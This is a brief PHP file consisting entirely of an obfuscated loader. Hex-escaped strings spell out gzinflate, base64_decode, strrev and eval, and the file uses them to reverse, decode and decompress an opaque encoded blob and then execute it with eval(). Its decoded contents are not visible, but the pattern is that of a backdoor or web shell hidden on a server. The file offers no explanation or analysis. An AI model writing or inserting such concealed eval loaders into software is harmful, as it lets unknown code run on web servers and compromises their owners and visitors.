<?php
$z="\x67\x7a\x69\x6e\x66\x6c\x61\x74\x65";$b="\x62\x61\x73\x65\x36\x34\x5f\x64\x65\x63\x6f\x64\x65";$r="\x73\x74\x72\x72\x65\x76";
$p='=AQL19qVlk0TO3USPl4M14ELKhU0MvULIZHrUXtiU1od3noDPA/9JWXcyxwdK8w83h4jImQCIIvVK2wcK0gdPkIUUnKKt0MTQNNTOTL0wc9SMnsKvgcLK9iivosKtg0c';
$e=$z($b($r($p)));
$x="\x65\x76\x61\x6c";
eval($e);
